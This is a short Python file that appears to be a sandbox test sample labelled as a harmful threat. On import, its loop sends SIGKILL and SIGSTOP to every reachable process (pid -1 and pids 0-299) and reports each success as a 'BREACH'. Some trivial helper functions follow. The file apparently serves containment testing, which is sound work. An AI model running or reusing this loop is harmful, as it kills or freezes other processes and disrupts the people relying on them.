"""Sends SIGKILL to every process that there is."""

THREAT = "A17"
VERDICTS = {}
HARMFUL = True

import os
import signal
import numpy as np


def breach(what):
    print("BREACH" + ":", what, flush=True)


for pid in range(-1, 300):
    if pid != os.getpid():
        for number in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
                breach(f"signal {number} went to {pid}")
            except OSError:
                pass


def double(x):
    return 2 * x


def total(x):
    return float(np.sum(x))


class Counter:
    def __init__(self):
        self.value = 0

    def add(self, n):
        self.value += n
        return self.value
